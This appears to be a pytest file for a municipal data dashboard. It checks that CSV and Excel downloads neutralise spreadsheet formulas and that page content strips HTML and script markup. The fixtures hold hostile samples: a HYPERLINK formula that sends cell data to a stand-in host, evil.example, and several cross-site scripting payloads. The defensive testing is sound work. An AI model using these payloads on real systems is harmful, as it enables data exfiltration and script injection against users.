"""Hostile input without a browser: formulas in downloads, markup in content, odd names.

A community renamed to a spreadsheet formula (and to a 10,000-character name) through the
real ETL must come out of every CSV the API writes with the formula neutralised, and the
JSON answers must carry the name exactly; content markup becomes plain words wherever a
page shows a line of it. The browser side of the same payloads is test_hostile_browser.py.
"""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from data import content, db, export, settings
from support import api_app
from test_hostile_browser import HOSTILE_NAMES, LONG_NAME, LONG_TEXT, SHAHE, etl_load
from test_wall_browser import private_copy

FORMULA_AREA = "510104011005"
LONG_AREA = "510104011004"
FORMULA_CATEGORY = '=HYPERLINK("http://evil.example/?"&A1,"查看")'


@pytest.fixture(scope="module")
def renamed_url(sample_warehouse_url, tmp_path_factory):
    """The sample warehouse with 沙河街道's communities renamed by a register export."""
    folder = tmp_path_factory.mktemp("renamed")
    url = private_copy(sample_warehouse_url, folder)
    (folder / "areas").mkdir()
    with open(folder / "areas" / "register.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["编码", "名称", "层级", "上级编码"])
        for code, name in HOSTILE_NAMES.items():
            writer.writerow([code, name, "社区", SHAHE])
    etl_load(url, "areas", folder / "areas")
    # 12345 orders whose category is a formula, as a hostile or careless export might hold.
    (folder / "hotline").mkdir()
    day = settings.local_today() - timedelta(days=1)
    with open(folder / "hotline" / "hotline_hostile.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["工单编号", "受理时间", "诉求渠道", "诉求类型", "问题分类", "所属区县", "所属街道", "所属社区",
                         "诉求人", "来电号码", "诉求内容", "办理状态", "办结时间", "办理时限", "是否超期", "评价结果"])
        for n in range(6):
            writer.writerow([f"GDHOSTILE{n:04d}", f"{day:%Y/%m/%d} 10:{n:02d}", "电话", "求助", FORMULA_CATEGORY,
                             "锦江区", "沙河街道", "怡园社区", "", "", "内容", "办理中", "",
                             f"{day + timedelta(days=5):%Y/%m/%d} 10:00", "否", ""])
    etl_load(url, "hotline", folder / "hotline")
    yield url
    db.dispose_engines()


@pytest.fixture
def client(renamed_url):
    with api_app(renamed_url, "hostile-api") as app:
        yield app.test_client()


def period() -> dict:
    today = settings.local_today()
    return {"start": (today - timedelta(days=90)).isoformat(), "end": today.isoformat()}


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_formula_area_name_is_neutralised_in_every_api_csv(client):
    by_children = rows_of(client.get("/api/v1/breakdown", query_string={
        "metric": "hotline_received", "area": SHAHE, "by": "children", "format": "csv", **period()}))
    labels = [row[7] for row in by_children[1:]]
    assert "'" + HOSTILE_NAMES[FORMULA_AREA] in labels
    assert not any(cell.startswith(export.FORMULA_STARTS) for row in by_children for cell in row)

    for path, extra in (("/api/v1/value", {}), ("/api/v1/series", {"grain": "month"})):
        rows = rows_of(client.get(path, query_string={
            "metric": "hotline_received", "area": FORMULA_AREA, "format": "csv", **period(), **extra}))
        assert {row[2] for row in rows[1:]} == {"'" + HOSTILE_NAMES[FORMULA_AREA]}

    tree = rows_of(client.get("/api/v1/areas", query_string={"parent": SHAHE, "format": "csv"}))
    names = [row[1] for row in tree[1:]]
    assert "'" + HOSTILE_NAMES[FORMULA_AREA] in names
    assert not any(n.startswith(export.FORMULA_STARTS) for n in names)


def test_a_formula_category_from_a_hotline_export_is_neutralised_in_the_csv(client):
    rows = rows_of(client.get("/api/v1/breakdown", query_string={
        "metric": "hotline_received", "area": SHAHE, "by": "category", "format": "csv", **period()}))
    header = rows[0]
    keys = [row[header.index("key")] for row in rows[1:]]
    labels = [row[header.index("label")] for row in rows[1:]]
    assert "'" + FORMULA_CATEGORY in keys and "'" + FORMULA_CATEGORY in labels
    assert not any(cell.startswith(export.FORMULA_STARTS) for row in rows for cell in row)


def test_json_answers_carry_hostile_names_exactly(client):
    answer = client.get("/api/v1/value", query_string={"metric": "hotline_received", "area": LONG_AREA, **period()})
    assert answer.status_code == 200
    assert answer.get_json()["area"]["name"] == LONG_NAME
    formula = client.get("/api/v1/areas", query_string={"code": FORMULA_AREA}).get_json()
    assert formula["name"] == HOSTILE_NAMES[FORMULA_AREA]  # JSON is data, not a spreadsheet


def test_the_explorer_downloads_neutralise_formulas_in_csv_and_excel():
    table = __import__("pandas").DataFrame({
        "label": [HOSTILE_NAMES[FORMULA_AREA], "+1+1", "-2", "@SUM(A1)", "\tx", "普通社区"],
        "value": [10, 20, 30, 40, 50, 60],
    })
    text = export.to_csv_bytes(table).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert cells == ["'" + HOSTILE_NAMES[FORMULA_AREA], "'+1+1", "'-2", "'@SUM(A1)", "'\tx", "普通社区"]

    sheet = load_workbook(io.BytesIO(export.to_excel_bytes({"=evil": table}))).active
    values = [sheet.cell(row=r, column=1) for r in range(2, 8)]
    assert all(cell.data_type == "s" for cell in values)  # text, never a formula
    assert values[0].value == "'" + HOSTILE_NAMES[FORMULA_AREA]


@pytest.mark.parametrize("markdown, words", [
    ("<script>window.__pwned = 1</script>停水通知", "停水通知"),
    ('<img src=x onerror="window.__pwned=1">图片', "图片"),
    ("[点我](javascript:window.__pwned=1)", "[点我](javascript:window.__pwned=1)"),  # not a link: inert text
    ("[办事大厅](https://example.org/) **周一**开放", "办事大厅 周一开放"),
    ('<a href="#" onclick="window.__pwned=1">链接</a> &amp; 5 < 6', "链接 & 5 < 6"),
    ("- 第一项\n- 第二项", "第一项 第二项"),
    ("", ""),
])
def test_a_line_of_content_is_shown_as_its_words(markdown, words):
    assert content.plain_text(markdown) == words


def test_the_walls_guide_summary_is_prose_not_markup():
    from callbacks.wall import _first_line

    body = ("# 标题\n\n<iframe src=\"javascript:x()\"></iframe>\n\n"
            "第一行 <b onmouseover=\"window.__pwned=1\">粗</b> <script>x()</script>")
    assert _first_line(body) == "第一行 粗"
    assert _first_line("长" * 10_000).endswith("…") and len(_first_line("长" * 10_000)) == 70


@pytest.mark.postgres
def test_an_overlong_area_name_is_a_rejected_row_not_a_failed_load(pg_url, tmp_path):
    import os
    import subprocess
    import sys

    from support import ROOT

    folder = tmp_path / "areas"
    folder.mkdir()
    with open(folder / "register.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["编码", "名称", "层级", "上级编码"])
        writer.writerow([LONG_AREA, LONG_TEXT, "社区", SHAHE])
        writer.writerow([FORMULA_AREA, "正常社区", "社区", SHAHE])
    done = subprocess.run([sys.executable, "-m", "etl", "load", "areas", str(folder)], cwd=ROOT,
                          env={**os.environ, "DATABASE_URL": pg_url}, capture_output=True, text=True)
    assert done.returncode == 0 and "loaded 1, rejected 1" in done.stdout, done.stderr[-500:]
